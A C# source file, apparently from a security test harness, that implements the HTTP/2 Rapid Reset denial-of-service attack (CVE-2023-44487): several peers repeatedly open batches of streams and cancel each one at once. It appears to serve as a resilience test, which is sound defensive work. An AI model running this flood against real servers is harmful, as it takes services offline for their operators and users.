using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using ExtProc.Tests.Transport;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Runnings;

/// <summary>Opens streams and resets them at once (CVE-2023-44487).</summary>
internal sealed class RapidReset : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        for (int round = 0; round < target.Count(20, 400) && !peer.Gone; round++)
        {
            List<byte> frames = [];
            for (int i = 0; i < 50; i++)
            {
                int stream = peer.NextStream();
                frames.AddRange(HeaderFrames(stream, RawHpack.Encode(Peer.Call()), endStream: false));
                frames.AddRange(Frame(ResetFrame, 0, stream, [0, 0, 0, 8]));
            }

            await peer.WriteAsync(frames.ToArray());
        }
    });
}
